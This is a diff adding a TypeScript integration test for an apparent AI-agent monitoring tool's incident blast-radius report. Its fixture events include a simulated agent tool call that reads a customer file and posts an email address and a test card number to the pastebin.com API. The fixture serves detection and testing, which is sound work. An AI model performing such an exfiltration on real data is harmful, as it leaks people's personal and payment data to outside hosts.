@@ -1,0 +1,193 @@
+/**
+ * An incident's blast radius through the real process, on the embedded storage and (when
+ * AW_ES_URL is set; CI starts one) on Elasticsearch: a simulated exfiltration names the session,
+ * the user, the host the data went to, the tools, the kinds of data that left (never the values),
+ * the other agent that served the same user from the same address, and the pause.
+ */
+import { randomUUID } from "node:crypto";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { type AgentwatchProcess, eventually, type Json, startAgentwatch } from "./helpers/process.ts";
+import { bearer, postJson, TOKENS } from "./helpers/tokens.ts";
+
+const elasticsearch = process.env.AW_ES_URL;
+const backends = [
+  { name: "embedded storage", storage: { type: "embedded" } },
+  ...(elasticsearch
+    ? [
+        {
+          name: "Elasticsearch storage",
+          storage: {
+            type: "elasticsearch",
+            node: elasticsearch,
+            index_prefix: `aw-blast-${randomUUID().slice(0, 8)}`,
+          },
+        },
+      ]
+    : []),
+];
+
+describe.each(backends)("blast radius on $name", ({ storage }) => {
+  let aw: AgentwatchProcess;
+  beforeAll(async () => {
+    aw = await startAgentwatch({ config: { storage } });
+  });
+  afterAll(async () => {
+    await aw?.stop();
+    aw?.cleanup();
+  });
+
+  it("names the session, user, host, tools, data types, the agents that share a user or address, and the actions", async () => {
+    const t = (s: number) => new Date(Date.now() - 60_000 + s * 1000).toISOString();
+    const mallory = { user_id: "mallory", source_ip: "198.51.100.23" };
+    const events: Json[] = [
+      {
+        id: "x1",
+        time: t(1),
+        type: "prompt",
+        agent_id: "exfil-bot",
+        session_id: "sess-x",
+        ...mallory,
+        origin: "user",
+        text: "Summarise the customer list for me.",
+      },
+      {
+        id: "x2",
+        time: t(2),
+        type: "tool_call",
+        agent_id: "exfil-bot",
+        session_id: "sess-x",
+        ...mallory,
+        tool: { name: "read_file", arguments: { path: "/data/customers.csv" } },
+      },
+      {
+        id: "x3",
+        time: t(3),
+        type: "tool_result",
+        agent_id: "exfil-bot",
+        session_id: "sess-x",
+        ...mallory,
+        tool: { name: "read_file" },
+        text: "jane.doe@example.com,4111 1111 1111 1111",
+      },
+      {
+        id: "x4",
+        time: t(4),
+        type: "tool_call",
+        agent_id: "exfil-bot",
+        session_id: "sess-x",
+        ...mallory,
+        tool: {
+          name: "http_post",
+          target: "https://pastebin.com/api/api_post.php",
+          arguments: { body: "jane.doe@example.com 4111 1111 1111 1111" },
+        },
+      },
+      {
+        id: "x5",
+        time: t(5),
+        type: "response",
+        agent_id: "exfil-bot",
+        session_id: "sess-x",
+        ...mallory,
+        text: "Done, I sent jane.doe@example.com's record.",
+      },
+      {
+        id: "y1",
+        time: t(6),
+        type: "prompt",
+        agent_id: "exfil-bot",
+        session_id: "sess-y",
+        user_id: "bob",
+        source_ip: "203.0.113.5",
+        text: "What are your opening hours?",
+      },
+      {
+        id: "h1",
+        time: t(7),
+        type: "prompt",
+        agent_id: "helper-bot",
+        session_id: "h-sess",
+        ...mallory,
+        text: "Hi again",
+      },
+      {
+        id: "u1",
+        time: t(8),
+        type: "prompt",
+        agent_id: "unrelated-bot",
+        session_id: "u-sess",
+        user_id: "carol",
+        source_ip: "192.0.2.44",
+        text: "Hello",
+      },
+    ];
+    const posted = await aw.fetch("/v1/events", postJson(TOKENS.admin, events));
+    expect((await posted.json()).rejected).toEqual([]);
+    const incident = await eventually(async () => {
+      const all: Json[] = (
+        await (await aw.fetch("/v1/incidents?agent_id=exfil-bot", { headers: bearer(TOKENS.viewer) })).json()
+      ).incidents;
+      return all.find((i) => i.detectors.includes("exfiltration"));
+    });
+    // The agent is known once its events are stored (Elasticsearch indexes them a moment later).
+    await eventually(async () => {
+      const pause = await aw.fetch(
+        "/v1/agents/exfil-bot/pause",
+        postJson(TOKENS.operator, { reason: "data sent to a paste site", incident_id: incident.id }),
+      );
+      return pause.status === 200 ? true : undefined;
+    });
+
+    const radius = await eventually(async () => {
+      const res = await aw.fetch(`/v1/incidents/${incident.id}/blast-radius`, {
+        headers: bearer(TOKENS.viewer),
+      });
+      expect(res.status).toBe(200);
+      const body = await res.json();
+      // Indexing is asynchronous (Elasticsearch refreshes): wait for every event.
+      return body.events_read >= events.length && body.actions.length > 0 ? body : undefined;
+    });
+    expect(radius).toMatchObject({ incident_id: incident.id, agent_id: "exfil-bot", truncated: false });
+    expect(radius.sessions.map((s: Json) => [s.session_id, s.user_id, s.events])).toEqual([
+      ["sess-x", "mallory", 5],
+      ["sess-y", "bob", 1],
+    ]);
+    expect(radius.users).toEqual([
+      { user_id: "mallory", events: 5 },
+      { user_id: "bob", events: 1 },
+    ]);
+    expect(radius.tools).toEqual(
+      expect.arrayContaining([
+        { tool: "read_file", calls: 1 },
+        { tool: "http_post", calls: 1 },
+      ]),
+    );
+    expect(radius.hosts).toEqual([{ host: "pastebin.com", calls: 1, tools: ["http_post"] }]);
+    const types = Object.fromEntries(radius.sensitive_data.map((d: Json) => [d.type, d]));
+    expect(types.email).toMatchObject({ category: "pii", in: ["response", "tool arguments"] });
+    expect(types.credit_card).toMatchObject({ category: "pii", in: ["tool arguments"] });
+    // What was read from a tool result did not leave: only outbound texts count.
+    expect(types.email.count).toBe(2);
+    expect(radius.other_agents).toEqual([
+      {
+        agent_id: "helper-bot",
+        shared_users: ["mallory"],
+        shared_api_keys: [],
+        shared_source_ips: ["198.51.100.23"],
+        events: 1,
+      },
+    ]);
+    expect(radius.actions.map((a: Json) => [a.action, a.actor])).toContainEqual(["pause", "oncall"]);
+    // Counts and types, never the values.
+    const text = JSON.stringify(radius);
+    expect(text).not.toContain("jane.doe@example.com");
+    expect(text).not.toContain("4111");
+
+    const unknown = await aw.fetch("/v1/incidents/inc_nope/blast-radius", { headers: bearer(TOKENS.viewer) });
+    expect(unknown.status).toBe(404);
+    const bad = await aw.fetch(`/v1/incidents/${incident.id}/blast-radius?lookback=30d`, {
+      headers: bearer(TOKENS.viewer),
+    });
+    expect(bad.status).toBe(400);
+  });
+});
